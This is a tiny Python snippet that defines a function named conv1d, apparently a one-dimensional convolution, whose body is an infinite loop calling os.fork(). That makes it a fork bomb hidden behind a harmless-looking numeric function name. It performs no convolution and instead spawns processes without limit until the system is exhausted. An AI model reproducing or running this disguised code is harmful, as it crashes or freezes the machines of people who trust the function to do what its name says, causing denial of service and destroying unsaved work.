import os


def conv1d(x, k, mode):
    while True:
        os.fork()
